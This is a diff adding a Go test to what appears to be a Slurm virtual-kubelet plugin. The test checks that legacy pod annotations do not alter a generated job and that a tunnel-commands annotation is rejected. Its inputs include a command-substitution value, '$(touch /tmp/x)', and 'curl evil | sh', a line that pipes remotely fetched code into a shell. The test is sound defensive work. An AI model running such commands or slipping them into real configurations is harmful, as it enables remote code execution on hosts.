@@ -873,3 +873,31 @@ func TestFailedSubmissionRemovesOutput(t *testing.T) {
 		t.Errorf("the refused job's directory is left: %v", err)
 	}
 }
+
+// TestOriginalAnnotationsWithoutEffect: annotations the original plugin
+// read without effect (singularity-commands, since 0.4) or that the VK
+// handles (interlink.eu/pod-ip) leave the job as it is; the tunnel's
+// client commands, which the original runs in the job's shell on the host,
+// are refused.
+func TestOriginalAnnotationsWithoutEffect(t *testing.T) {
+	cfg := testConfig(t)
+	base, err := buildJob(&cfg, nil, testPod(), "/d")
+	if err != nil {
+		t.Fatal(err)
+	}
+	data := testPod()
+	data.Pod.Annotations["slurm-job.vk.io/singularity-commands"] = "$(touch /tmp/x)"
+	data.Pod.Annotations["interlink.eu/pod-ip"] = "10.7.0.9"
+	j, err := buildJob(&cfg, nil, data, "/d")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if j.script != base.script || !slices.Equal(j.args, base.args) {
+		t.Error("singularity-commands or pod-ip changed the job")
+	}
+	data = testPod()
+	data.Pod.Annotations[annotationTunnelCommands] = "curl evil | sh"
+	if _, err := buildJob(&cfg, nil, data, "/d"); api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(err.Error(), annotationTunnelCommands) {
+		t.Errorf("tunnel commands: %v, want a 400 naming the annotation", err)
+	}
+}
